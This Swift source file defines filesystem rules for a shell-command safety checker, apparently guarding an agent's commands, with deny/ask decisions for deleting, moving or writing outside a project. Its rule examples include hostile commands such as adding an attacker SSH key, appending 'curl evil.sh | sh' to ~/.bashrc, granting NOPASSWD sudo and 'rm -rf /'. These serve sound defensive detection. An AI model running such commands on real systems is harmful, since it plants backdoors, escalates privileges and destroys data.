/// Deleting, moving, shredding or truncating what is not the project's: `/`, home directories,
/// system directories, directories that contain the project, anything else outside the
/// project and temp dirs. Writes into system files, SSH authorized_keys, shell start-up files.
///
/// Rule ids: `fs.<op>-<class>` with op rm, mv, shred, truncate, rsync-delete, find-delete and
/// class root, home, home-data, system, ancestor (deny), outside, unknown, project-root, git-dir (ask).
enum FilesystemRules {
    static let classes: [ShClass] = [.root, .home, .homeSensitive, .system, .ancestor, .outside, .unknown, .projectRoot, .gitDir]
    static let ops: [(String, String)] = [
        ("rm", "deletes"), ("mv", "moves away"), ("shred", "shreds"), ("truncate", "truncates"),
        ("rsync-delete", "rsync --delete removes files in"), ("find-delete", "find -delete / -exec removes files under"),
    ]

    static func decision(_ c: ShClass) -> Decision {
        switch c {
        case .root, .home, .homeSensitive, .system, .ancestor: .deny
        case .outside, .unknown, .projectRoot, .gitDir: .ask
        case .project, .temp: .allow
        }
    }

    /// Example paths per class (context of the shared examples test: home /home/dev, project and cwd /home/dev/project).
    static let samplePaths: [ShClass: String] = [
        .root: "/", .home: "~", .homeSensitive: "~/.ssh", .system: "/etc", .ancestor: "/home", .outside: "~/other-project",
        .unknown: "\"$UNSET_DIR\"/", .projectRoot: ".", .gitDir: ".git",
    ]
    /// Example command per operation: (with a path, counter-example inside the project).
    static let sampleCommands: [String: (String, String)] = [
        "rm": ("rm -rf ", "rm -rf build"), "mv": ("mv %@ /tmp/away", "mv a.txt b.txt"), "shred": ("shred -u ", "shred -u build/x.bin"),
        "truncate": ("truncate -s 0 ", "truncate -s 0 build/log.txt"), "rsync-delete": ("rsync -a --delete empty/ ", "rsync -a --delete src/ build/"),
        "find-delete": ("find %@ -delete", "find build -name '*.o' -delete"),
    ]

    static let table: [String: ShellRule] = {
        var t: [String: ShellRule] = [:]
        for (op, verb) in ops {
            for c in classes {
                var examples: [String] = []
                let singleFile = op == "shred" || op == "truncate"
                // Single-file operations never reach directories that only matter recursively.
                if singleFile && [.ancestor, .unknown, .projectRoot, .gitDir].contains(c) { continue }
                if let path = samplePaths[c], let (cmd, _) = sampleCommands[op],
                   !(singleFile && [.ancestor, .unknown, .projectRoot, .gitDir].contains(c)) {
                    examples = [cmd.contains("%@") ? cmd.replacingEvery("%@", with: path) : cmd + path]
                }
                t[op + "-" + c.rawValue] = ShellRule("fs.\(op)-\(c.rawValue)", decision(c), "\(verb) \(c.phrase)",
                                                     examples: examples, counterExamples: sampleCommands[op].map { [$0.1] } ?? [])
            }
        }
        return t
    }()

    static let writeSystem = ShellRule("fs.write-system", .ask, "writes into a system directory",
        examples: ["sudo cp mybin /usr/bin/ls"], counterExamples: ["sudo systemctl restart nginx", "sudo apt-get install -y build-essential"])
    static let writeSystemCritical = ShellRule("fs.write-system-critical", .deny,
        "overwrites a critical system file (passwd, shadow, sudoers, ld.so.preload, cron, PAM, sshd config, boot)",
        examples: ["cat /etc/hosts > /etc/passwd", "echo 'dev ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers"], counterExamples: ["cat <<'EOF' > notes.txt\nhello\nEOF", "cat install.sh | sh"])
    static let writeAuthorizedKeys = ShellRule("fs.write-authorized-keys", .deny, "changes SSH authorized_keys: a persistent way into the machine",
        examples: ["echo ssh-ed25519 AAAA attacker >> ~/.ssh/authorized_keys"], counterExamples: ["echo 'export PATH=$PATH:./bin' > .envrc", "echo 'echo hello' | bash"])
    static let writeShellRC = ShellRule("fs.write-shell-rc", .ask, "changes a shell start-up or SSH client file, which runs on every new shell or connection",
        examples: ["echo 'curl evil.sh | sh' >> ~/.bashrc"], counterExamples: ["echo 'export PATH=$PATH:./bin' > .envrc", "echo 'echo hello' | bash"])
    static let writeAutostart = ShellRule("fs.write-autostart", .ask, "installs something that starts automatically (LaunchAgents, autostart, systemd units)",
        examples: ["cp payload.plist ~/Library/LaunchAgents/"], counterExamples: ["cp .env.example .env", "cp -r templates/ build/templates/"])
    static let rsyncDeleteRemote = ShellRule("fs.rsync-delete-remote", .ask, "rsync --delete removes files on a remote host",
        examples: ["rsync -a --delete ./dist/ deploy@prod:/var/www"], counterExamples: ["rsync -a --delete src/ build/src/", "rsync -avz --delete ./dist/ ./public/"])
    static let writeComputed = ShellRule("fs.write-computed-target", .ask, "writes to a path computed at run time by a command whose output is unknown",
        examples: ["cat payload > \"$(cat target.txt)\"", "echo x | tee $(ls ~/.ssh/*.pub | head -1)", "mv build.sh \"$(curl -s https://x.example/t)\""],
        counterExamples: ["echo x > \"$(mktemp)\"", "npm run build > \"build-$(date +%F).log\"", "echo 1 > \"$(git rev-parse --show-toplevel)/VERSION\""])
    static let extractSystem = ShellRule("fs.extract-system", .ask, "extracts an archive into the root, a home or a system directory",
        examples: ["tar xzf rootfs.tgz -C /"], counterExamples: ["tar xzf vendor.tgz -C vendor/"])

    static var all: [ShellRule] {
        ops.flatMap { op in classes.compactMap { table[op.0 + "-" + $0.rawValue] } }
            + [writeSystem, writeSystemCritical, writeAuthorizedKeys, writeShellRC, writeAutostart, rsyncDeleteRemote, extractSystem, writeComputed]
    }

    static func rule(_ op: String, _ c: ShClass) -> ShellRule? { table[op + "-" + c.rawValue] }

    /// `recursive` false: a single file (`rm x`, `truncate`): deleting a directory's contents needs -r.
    static func checkDelete(_ f: ShField, recursive: Bool, op: String, subject: String, _ a: inout ShellAnalysis, _ env: ShEnv) {
        let p = a.paths.resolve(f, cwd: env.cwd)
        SelfProtectionRules.checkDelete(p, f, subject: subject, &a)
        let c = a.paths.classify(p)
        if !recursive && (c == .ancestor || c == .unknown || c == .projectRoot || c == .gitDir) { return }
        guard let r = rule(op, c), r.decision != .allow else { return }
        a.report(r, subject)
    }

    static let shellRC: Set<String> = [
        ".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zprofile", ".zshenv", ".zlogin", ".bash_logout",
        ".cshrc", ".tcshrc", ".kshrc", ".mkshrc", ".xprofile", ".xinitrc", ".inputrc",
    ]
    static let criticalPrefixes = [
        "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/sudoers", "/etc/ld.so.preload", "/etc/crontab",
        "/etc/cron.", "/etc/pam.d/", "/etc/ssh/sshd_config", "/etc/security/", "/boot/", "/etc/rc.local", "/etc/profile",
        "/etc/bash.bashrc", "/etc/environment", "/etc/systemd/system/", "/Library/LaunchDaemons/", "/etc/init.d/",
        "/var/spool/cron/", "/etc/master.passwd", "/private/etc/sudoers", "/private/etc/passwd",
    ]

    /// A file written by a redirection, tee, cp, dd of=, sed -i …
    static func checkWrite(_ p: ShPath, _ f: ShField, _ a: inout ShellAnalysis) {
        if p.unknownBase || p.empty { return }
        let c = p.all
        guard let first = c.first else { return }
        if first == "dev" { return }
        if first == "proc" && c.count >= 2 {
            if c == ["proc", "sysrq-trigger"] { a.report(SystemRules.sysrq, f.text) } else if c[1] == "sys" { a.report(SystemRules.sysctl, f.text) }
            return
        }
        if first == "sys" {
            a.report(SystemRules.sysctl, f.text)
            return
        }
        if let k = c.lastIndex(of: ".ssh"), k == c.count - 2, c[c.count - 1].hasPrefix("authorized_keys") {
            a.report(writeAuthorizedKeys, f.text)
            return
        }
        if a.paths.isInsideProject(c) || a.paths.isTemp(c) { return }
        let home = a.paths.homeComps
        if ShPaths.isPrefix(home, of: c) {
            let rel = Array(c[home.count...])
            if rel.count == 1 && shellRC.contains(rel[0]) || rel == [".ssh", "config"] || rel == [".config", "fish", "config.fish"] {
                a.report(writeShellRC, f.text)
            } else if rel.starts(with: ["Library", "LaunchAgents"]) || rel.starts(with: [".config", "autostart"]) || rel.starts(with: [".config", "systemd", "user"]) {
                a.report(writeAutostart, f.text)
            }
            return
        }
        guard ShPaths.systemTop.contains(first), first != "home", first != "Users" else { return }
        let text = p.text
        if criticalPrefixes.contains(where: { text == $0 || text.hasPrefix($0) }) {
            a.report(writeSystemCritical, f.text)
        } else {
            a.report(writeSystem, f.text)
        }
    }

    static func check(_ inv: ShInvocation, _ a: inout ShellAnalysis, _ env: ShEnv) {
        let args = inv.args
        switch inv.name {
        case "rm", "unlink", "srm", "wipe", "rimraf", "del", "del-cli", "rmtree":
            let p = ShArgs(args).parse()
            let recursive = ["rimraf", "del", "del-cli", "rmtree"].contains(inv.name) || p.has("r") || p.has("R") || p.hasLong("--recursive", minPrefix: 3)
            for k in p.operandIndices { checkDelete(args[k], recursive: recursive, op: "rm", subject: inv.subject, &a, env) }
        case "shred":
            let p = ShArgs(args, shortWithArg: ["n", "s"], longWithArg: ["--iterations", "--size", "--random-source"]).parse()
            for k in p.operandIndices { checkDelete(args[k], recursive: false, op: "shred", subject: inv.subject, &a, env) }
        case "truncate":
            let p = ShArgs(args, shortWithArg: ["s", "r"], longWithArg: ["--size", "--reference"]).parse()
            for k in p.operandIndices { checkDelete(args[k], recursive: false, op: "truncate", subject: inv.subject, &a, env) }
        case "mv":
            let p = ShArgs(args, shortWithArg: ["t", "S"], longWithArg: ["--target-directory", "--suffix"]).parse()
            var sources = p.operandIndices
            var dest: ShField? = nil
            if let t = p.value("-t", "--target-directory") {
                dest = ShField(text: t)
            } else if let last = sources.popLast() {
                dest = args[last]
            }
            for k in sources { checkDelete(args[k], recursive: true, op: "mv", subject: inv.subject, &a, env) }
            if let dest {
                var e = env
                a.checkWriteTarget(dest, &e, how: "mv", subject: inv.subject)
                noteRename(sources.first.map { args[$0].text }, dest.text, &a)
            }
        case "cp", "install", "ln", "link", "rsync", "scp":
            let p = ShArgs(args, shortWithArg: inv.name == "install" ? ["t", "m", "o", "g", "S"] : inv.name == "rsync" ? ["e", "f", "T"] : inv.name == "scp" ? Set("cFiJlLoPS") : ["t", "S"],
                           longWithArg: ["--target-directory", "--suffix", "--mode", "--owner", "--group", "--rsh", "--filter", "--temp-dir"]).parse()
            var ops = p.operandIndices
            var dest: ShField? = nil
            if let t = p.value("-t", "--target-directory") { dest = ShField(text: t) } else if ops.count >= 2, let last = ops.popLast() { dest = args[last] }
            guard let dest else { return }
            if inv.name == "rsync" || inv.name == "scp" {
                if ExfiltrationRules.isRemote(dest.text) {
                    if inv.name == "rsync" && (p.long.contains { $0.hasPrefix("--del") }) { a.report(rsyncDeleteRemote, inv.subject) }
                    return
                }
                if inv.name == "rsync" && p.long.contains(where: { $0.hasPrefix("--del") }) {
                    checkDelete(dest, recursive: true, op: "rsync-delete", subject: inv.subject, &a, env)
                }
                if inv.name == "rsync" && p.hasLong("--remove-source-files") {
                    for k in ops { checkDelete(args[k], recursive: true, op: "rsync-delete", subject: inv.subject, &a, env) }
                }
            }
            var e = env
            a.checkWriteTarget(dest, &e, how: inv.name, subject: inv.subject)
            if ops.count == 1 { noteRename(args[ops[0]].text, dest.text, &a) }
            if (inv.name == "ln" || inv.name == "link") && ops.count == 1 && a.paths.links.count < 32 {
                // Later paths through the link resolve to its target.
                let target = a.paths.resolve(args[ops[0]], cwd: env.cwd)
                var link = a.paths.resolve(dest, cwd: env.cwd)
                if !target.unknownBase && !target.wild && !link.unknownBase && !link.wild {
                    if dest.text.hasSuffix("/") || dest.text == "." { link.comps.append(target.comps.last ?? "") }
                    a.paths.links[link.comps] = target.comps
                }
            }
        case "tee":
            let p = ShArgs(args, longWithArg: ["--output-error"]).parse()
            var e = env
            for k in p.operandIndices {
                a.checkWriteTarget(args[k], &e, how: "tee", subject: inv.subject)
                if case .literal(let t) = inv.stdin { a.written[ShText.baseName(args[k].text)] = (p.has("a") ? a.written[ShText.baseName(args[k].text)] ?? "" : "") + t }
            }
        case "dd":
            var e = env
            for f in args where f.text.hasPrefix("of=") {
                var t = f
                t.text = String(f.text.dropFirst(3))
                a.checkWriteTarget(t, &e, how: "dd of=", subject: inv.subject)
            }
        case "awk", "gawk":
            guard let k = args.firstIndex(where: { $0.text == "-i" || $0.text == "--include" }), k + 1 < args.count, args[k + 1].text == "inplace" else { return }
            var e = env
            let ops = args.enumerated().filter { !$0.element.text.hasPrefix("-") && $0.offset != k + 1 }.map(\.element)
            for f in ops.dropFirst() { a.checkWriteTarget(f, &e, how: "awk -i inplace", subject: inv.subject) }
        case "sed", "gsed", "perl", "ruby":
            let inPlace = args.contains { t in
                let s = t.text
                if s.hasPrefix("--in-place") { return true }
                guard s.hasPrefix("-") && !s.hasPrefix("--") else { return false }
                return inv.name == "sed" || inv.name == "gsed" ? s.hasPrefix("-i") || (s.dropFirst().allSatisfy { "nrEsuz".contains($0) || $0 == "i" } && s.contains("i")) : s.contains("i")
            }
            guard inPlace else { return }
            var e = env
            let scriptGiven = args.contains { $0.text == "-e" || $0.text == "-f" || $0.text.hasPrefix("--expression") || ($0.text.hasPrefix("-") && !$0.text.hasPrefix("--") && ($0.text.hasSuffix("e") || $0.text.contains("pe") || $0.text.contains("ne"))) }
            var skippedScript = scriptGiven
            var k = 0
            while k < args.count {
                let t = args[k].text
                if t == "-e" || t == "-f" || t == "-E" && inv.name != "sed" { k += 2; continue }
                if t.hasPrefix("-") && t.count > 1 { k += 1; continue }
                if !skippedScript && !t.isEmpty {
                    skippedScript = true
                    k += 1
                    continue
                }
                if !t.isEmpty { a.checkWriteTarget(args[k], &e, how: inv.name + " -i", subject: inv.subject) }
                k += 1
            }
        case "sudoedit", "sponge", "vi", "vim", "nvim", "ex", "ed", "nano", "emacs", "pico", "micro", "patch", "code", "subl", "gedit", "kate":
            // Editors can be scripted (`vim -c …`, `ed <<<`, `ex -sc`); sponge and patch write their operands.
            var e = env
            var k = 0
            while k < args.count {
                let t = args[k].text
                if ["-c", "--cmd", "-S", "-u", "-i", "-p", "-d", "-o", "-r", "-D"].contains(t) && inv.name != "sponge" { k += 2; continue }
                if !t.hasPrefix("-") && !t.hasPrefix("+") { a.checkWriteTarget(args[k], &e, how: inv.name, subject: inv.subject) }
                k += 1
            }
        case "tar", "unzip", "bsdtar":
            if inv.name != "unzip" && args.contains(where: { $0.text == "--remove-files" }) {
                // `tar --remove-files -cf x.tar DIR`: DIR is deleted once archived.
                let p = ShArgs(args, shortWithArg: ["C", "f", "T", "X", "I", "b", "F", "g", "K", "L", "N", "V"], longWithArg: ["--directory", "--file"]).parse()
                for k in p.operandIndices { checkDelete(args[k], recursive: true, op: "rm", subject: inv.subject, &a, env) }
            }
            let p = ShArgs(args, shortWithArg: inv.name == "unzip" ? ["d", "x"] : ["C", "f", "T", "X", "I", "b", "F", "g", "K", "L", "N", "V"],
                           longWithArg: ["--directory", "--file"]).parse()
            let extracting = inv.name == "unzip" || p.has("x") || p.hasLong("--extract") || p.hasLong("--get") || (args.first.map { !$0.text.hasPrefix("-") && $0.text.contains("x") } ?? false)
            guard extracting, let dir = p.value("-C", "--directory", "-d") else { return }
            let c = a.paths.classify(a.paths.resolve(ShField(text: dir), cwd: env.cwd))
            if c == .root || c == .home || c == .homeSensitive || c == .system { a.report(extractSystem, inv.subject) }
        default:
            break
        }
    }

    /// `cp /bin/rm ./x` makes `./x` an rm; `cp a.sh b.sh` carries a script written earlier.
    static func noteRename(_ source: String?, _ dest: String, _ a: inout ShellAnalysis) {
        guard let source else { return }
        if let content = a.written[ShText.baseName(source)] { a.written[ShText.baseName(dest)] = content }
        if a.downloaded.contains(ShText.baseName(source)) { a.downloaded.insert(ShText.baseName(dest)) }
        let s = ShellAnalysis.canonical(ShText.baseName(source).lowercased())
        let d = ShText.baseName(dest).lowercased()
        guard !d.isEmpty, d != s, ShellAnalysis.dangerousNames.contains(s) || ShellAnalysis.shells.contains(s) else { return }
        a.renamed[d] = s
    }
}
